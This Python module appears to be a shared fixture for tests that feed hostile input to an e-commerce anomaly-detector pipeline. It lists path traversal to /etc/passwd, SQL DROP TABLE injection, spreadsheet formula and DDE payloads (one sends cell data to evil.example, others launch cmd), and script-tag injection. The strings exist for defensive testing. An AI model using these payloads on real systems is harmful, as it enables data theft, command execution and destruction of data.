"""Hostile strings and a small valid definition, shared by the ``test_hostile_*`` modules."""
from __future__ import annotations

import copy
import json
from pathlib import Path

ECOMMERCE = Path(__file__).resolve().parents[2] / "dags" / "detectors" / "ecommerce.json"

#: Names and values an attacker or a broken export might put where a name or value goes.
HOSTILE = {
    "parent folder": "../../etc/passwd",
    "slash": "a/b",
    "absolute path": "/etc/passwd",
    "NUL": "a\x00b",
    "double quote": 'a"b',
    "single quote": "a'b",
    "SQL": "x'); DROP TABLE live; --",
    "SQL identifier": 'x" FROM live; DROP TABLE live; --',
    "formula": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "DDE": "+cmd|' /C calc'!A0",
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus formula": "-2+3+cmd|' /C calc'!A0",
    "HTML": "</script><script>alert(1)</script>",
    "line break": "a\r\nb",
    "undecodable byte": "a\udcff",
    "right-to-left override": "a\u202eb",
    "1 MB": "x" * 1_000_000,
}

#: Dimension values that a reader accepts (printable, short) but that are dangerous
#: downstream: spreadsheet formulas, paths, SQL, HTML, quotes.
PLATFORMS = {
    "mobile_app": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "mobile_web": "+cmd|' /C calc'!A0",
    "pc_web": "'quoted",
}
MARKETPLACES = {
    "de": "@SUM(1+1)",
    "es": "-2+3",
    "fr": "../../../escape",
    "it": "/etc/passwd",
    "jp": "x'); DROP TABLE live; --",
    "uk": 'a"b,c</script><script>alert(1)</script>',
    "us": "-1",
}


def definition() -> dict:
    """The tutorial definition (``dags/detectors/ecommerce.json``), as a fresh dict."""
    return copy.deepcopy(json.loads(ECOMMERCE.read_text()))


def local_definition(root: Path) -> dict:
    """The tutorial definition with its live files, results and catalog under ``root``."""
    doc = definition()
    doc["MetricSet"]["MetricSource"]["S3SourceConfig"] = {
        "TemplatedPathList": [f"file://{root}/live/{{{{yyyyMMdd}}}}/{{{{HHmm}}}}"]}
    doc["Storage"] = {"ResultsPath": f"file://{root}/results"}
    doc["Publish"] = {"Local": {"CatalogPath": f"file://{root}/catalog.duckdb"}}
    return doc
